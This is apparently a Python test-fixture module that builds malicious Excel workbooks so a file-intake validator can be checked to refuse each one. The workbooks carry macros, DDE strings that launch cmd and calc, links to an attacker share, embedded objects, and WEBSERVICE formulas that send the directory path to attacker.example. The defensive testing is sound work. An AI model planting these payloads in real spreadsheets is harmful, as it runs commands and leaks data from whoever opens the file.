"""Hostile cases that carry something active: macros, links to other files, DDE, data
connections, embedded objects, and formulas that reach outside the workbook.

Each must be refused with its own finding code, because a consolidator opening the file
in Excel could run or fetch it.
"""

from __future__ import annotations

from helpers.base_package import MAIN, OFFICE_RELS, Builder, Pkg, sheet_xml, with_main_type
from helpers.raw_files import MB, Entry, ole_file, raw_zip


def _defined_name(pkg: Pkg, xml: str) -> bytes:
    text = pkg.parts["xl/workbook.xml"].decode()
    if "<definedNames>" in text:
        return pkg.edit("xl/workbook.xml", "<definedNames>", "<definedNames>" + xml).zip()
    return pkg.edit(
        "xl/workbook.xml", "</sheets>", f"</sheets><definedNames>{xml}</definedNames>"
    ).zip()


def _link(pkg: Pkg, body: str) -> Pkg:
    pkg.edit(
        "xl/workbook.xml",
        "</sheets>",
        f"</sheets><externalReferences><externalReference "
        f'xmlns:r="{OFFICE_RELS}" r:id="rIdLink"/></externalReferences>',
    )
    return pkg.add(
        "xl/externalLinks/externalLink1.xml",
        f'<externalLink xmlns="{MAIN}" xmlns:r="{OFFICE_RELS}">{body}</externalLink>'.encode(),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
        f"{OFFICE_RELS}/externalLink",
    )


DDE = "cmd|' /C calc'!A0"
MS_RELS = "http://schemas.microsoft.com/office/2006/relationships"
CT = "application/vnd.openxmlformats-officedocument.spreadsheetml."

ACTIVE_CONTENT: list[tuple[str, str, Builder]] = [
    # Macros, links, connections, embedded objects.
    (
        "vba.xlsx",
        "macros",
        lambda pkg: pkg.add(
            "xl/vbaProject.bin",
            ole_file({"VBA": b"Attribute"}),
            "application/vnd.ms-office.vbaProject",
            f"{MS_RELS}/vbaProject",
        ).zip(),
    ),
    (
        "xlsm.xlsx",
        "macros",
        lambda pkg: with_main_type(pkg, "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
    ),
    (
        "macro-sheet.xlsx",
        "macros",
        lambda pkg: pkg.add(
            "xl/macrosheets/sheet1.xml",
            sheet_xml('<row r="1"><c r="A1"><f>EXEC("calc")</f></c></row>'),
            "application/vnd.ms-excel.macrosheet+xml",
            f"{MS_RELS}/xlMacrosheet",
        ).zip(),
    ),
    (
        "external-link.xlsx",
        "external-link",
        lambda pkg: (
            _link(
                pkg,
                '<externalBook r:id="rId1"><sheetNames><sheetName val="Budget"/></sheetNames>'
                "</externalBook>",
            )
            .relate(
                "xl/externalLinks/externalLink1.xml",
                f"{OFFICE_RELS}/externalLinkPath",
                "file:///C:/Finance/budget.xlsx",
                "External",
            )
            .zip()
        ),
    ),
    (
        "external-relationship.xlsx",
        "external-link",
        lambda pkg: pkg.relate(
            pkg.sheet,
            f"{OFFICE_RELS}/externalLinkPath",
            "file://server/share/budget.xlsx",
            "External",
        ).zip(),
    ),
    (
        "linked-picture.xlsx",
        "external-link",
        lambda pkg: (
            pkg.add("xl/drawings/drawing9.xml", b"<wsDr/>")
            .relate(
                "xl/drawings/drawing9.xml",
                f"{OFFICE_RELS}/image",
                "file://attacker/share/a.png",
                "External",
            )
            .zip()
        ),
    ),
    (
        "dde-formula.xlsx",
        "dde-link",
        lambda pkg: pkg.cells(f'<row r="1999"><c r="B1999"><f>{DDE}</f></c></row>').zip(),
    ),
    (
        "dde-defined-name.xlsx",
        "dde-link",
        lambda pkg: _defined_name(pkg, f'<definedName name="Go">{DDE}</definedName>'),
    ),
    (
        "dde-validation.xlsx",
        "dde-link",
        lambda pkg: pkg.after_data(
            '<dataValidations count="1"><dataValidation type="list" sqref="C2">'
            f"<formula1>{DDE}</formula1></dataValidation></dataValidations>"
        ).zip(),
    ),
    (
        "dde-link.xlsx",
        "dde-link",
        lambda pkg: _link(
            pkg,
            '<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0"/>'
            "</ddeItems></ddeLink>",
        ).zip(),
    ),
    (
        "connections.xlsx",
        "data-connection",
        lambda pkg: pkg.add(
            "xl/connections.xml",
            f'<connections xmlns="{MAIN}"><connection id="1" name="q" type="1">'
            '<dbPr connection="DSN=x" command="SELECT 1"/></connection></connections>'.encode(),
            CT + "connections+xml",
            f"{OFFICE_RELS}/connections",
        ).zip(),
    ),
    (
        "query-table.xlsx",
        "data-connection",
        lambda pkg: pkg.add(
            "xl/queryTables/queryTable1.xml",
            f'<queryTable xmlns="{MAIN}" name="q" connectionId="1"/>'.encode(),
            CT + "queryTable+xml",
            f"{OFFICE_RELS}/queryTable",
            source=pkg.sheet,
        ).zip(),
    ),
    (
        "embedded-zip.xlsx",
        "embedded-object",
        lambda pkg: pkg.add(
            "xl/embeddings/oleObject1.bin",
            raw_zip([Entry("inner.xlsx", b"0" * MB)]),
            "application/vnd.openxmlformats-officedocument.oleObject",
            f"{OFFICE_RELS}/oleObject",
            source=pkg.sheet,
        ).zip(),
    ),
    (
        "activex.xlsx",
        "embedded-object",
        lambda pkg: pkg.add(
            "xl/activeX/activeX1.xml",
            b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/'
            b'activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>',
            "application/vnd.ms-office.activeX+xml",
        ).zip(),
    ),
]

OUTWARD_FORMULAS: list[tuple[str, str, Builder]] = [
    (
        "webservice-formula.xlsx",
        "outward-formula",
        lambda pkg: pkg.cells(
            '<row r="1999"><c r="B1999"><f>_xlfn.WEBSERVICE("https://attacker.example/?"&amp;INFO("directory"))</f>'
            "</c></row>"
        ).zip(),
    ),
    (
        "webservice-format.xlsx",
        "outward-formula",
        lambda pkg: pkg.after_data(
            '<conditionalFormatting sqref="B2"><cfRule type="expression" priority="1" dxfId="0">'
            '<formula>LEN(WEBSERVICE("https://attacker.example/"))&gt;0</formula></cfRule></conditionalFormatting>'
        ).zip(),
    ),
]
